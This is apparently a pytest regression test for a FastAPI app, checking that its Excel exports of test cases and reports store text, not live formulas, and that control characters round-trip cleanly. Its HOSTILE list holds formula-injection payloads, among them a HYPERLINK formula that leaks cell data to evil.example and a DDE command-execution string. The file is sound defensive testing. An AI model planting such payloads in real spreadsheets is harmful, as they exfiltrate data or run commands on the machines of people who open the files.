"""Exported ``.xlsx`` files hold text as text: no cell becomes a live formula.

Found by a black-box attack: a case or report cell starting with ``=`` was written
as a formula (``=HYPERLINK(...)``, ``=cmd|...``) that Excel evaluates on opening.
"""

from __future__ import annotations

import io
import uuid
import zipfile

import httpx
from fastapi import FastAPI
from openpyxl import load_workbook

from server.db.models.autotest import Batch, BatchResult
from server.db.models.base import utcnow

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "==double",
]
FIELDS = ("question", "expected_keywords", "expected_conditions", "expected_sql", "category")


def _formulas(workbook: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


def _text_cells(workbook: bytes) -> list[tuple[str, str]]:
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert sheet is not None
    return [
        (str(cell.value), cell.data_type)
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]


async def test_case_export_writes_text_and_reimports_it_exactly(
    root_client: httpx.AsyncClient,
) -> None:
    originals = []
    for n, text in enumerate(HOSTILE):
        body = {
            "question": f"{text} #{n}" if n % 2 else text,
            "expected_keywords": text,
            "expected_conditions": text,
            "expected_sql": text,
            "category": text[:50],
        }
        response = await root_client.post("/cases", json=body)
        assert response.status_code == 201, response.text
        originals.append({f: response.json()[f] for f in FIELDS})
    exported = await root_client.get("/cases/export")
    assert exported.status_code == 200
    assert _formulas(exported.content) == []
    cells = _text_cells(exported.content)
    assert len(cells) >= len(HOSTILE) * len(FIELDS)
    assert {data_type for _, data_type in cells} == {"s"}

    ids = [c["id"] for c in (await root_client.get("/cases")).json()]
    deleted = await root_client.post("/cases/batch-delete", json={"case_ids": ids})
    assert deleted.json()["deleted"] == len(HOSTILE)
    imported = await root_client.post(
        "/cases/import", files={"file": ("cases.xlsx", exported.content)}
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["imported"] == len(HOSTILE)
    again = [{f: c[f] for f in FIELDS} for c in (await root_client.get("/cases")).json()]
    assert again == originals


async def test_report_export_writes_text(app: FastAPI, root_client: httpx.AsyncClient) -> None:
    batch_id = str(uuid.uuid4())
    now = utcnow()
    async with app.state.database.session() as session:
        session.add(
            Batch(
                id=batch_id,
                status="COMPLETED",
                start_time=now,
                end_time=now,
                total_count=len(HOSTILE),
                pass_count=0,
                fail_count=len(HOSTILE),
                error_count=0,
            )
        )
        await session.flush()
        for position, text in enumerate(HOSTILE):
            session.add(
                BatchResult(
                    batch_id=batch_id,
                    position=position,
                    case_id=position + 1,
                    question=text,
                    expected_keywords=text,
                    expected_sql=text,
                    result="FAIL",
                    actual_sql=text,
                    message=text,
                    duration=0.5,
                    raw_answer=text,
                    started_at=now,
                    finished_at=now,
                    seq=position + 1,
                )
            )
        await session.commit()
    exported = await root_client.get(f"/reports/{batch_id}/export")
    assert exported.status_code == 200
    assert _formulas(exported.content) == []
    cells = _text_cells(exported.content)
    assert {value for value, _ in cells} >= set(HOSTILE)
    assert {data_type for _, data_type in cells} == {"s"}


async def test_control_characters_and_escape_lookalikes_round_trip(
    root_client: httpx.AsyncClient,
) -> None:
    """XML cannot hold most control characters: they are written as Excel writes them
    (``_x0001_``), and text that merely looks like such an escape is escaped itself."""
    texts = [
        "bell\x07 and unit\x1fseparator",
        "vertical\x0btab, form\x0cfeed, escape\x1b[0m",
        "literal _x0041_ and _x005F_ and _X0001_ stay as typed",
        "both: \x02_x0002_",
    ]
    for text in texts:
        response = await root_client.post("/cases", json={"question": text, "expected_sql": text})
        assert response.status_code == 201, response.text
    exported = await root_client.get("/cases/export")
    assert exported.status_code == 200
    ids = [c["id"] for c in (await root_client.get("/cases")).json()]
    await root_client.post("/cases/batch-delete", json={"case_ids": ids})
    imported = await root_client.post(
        "/cases/import", files={"file": ("cases.xlsx", exported.content)}
    )
    assert imported.status_code == 200, imported.text
    again = (await root_client.get("/cases")).json()
    assert sorted(c["question"] for c in again) == sorted(texts)
    assert sorted(c["expected_sql"] for c in again) == sorted(texts)
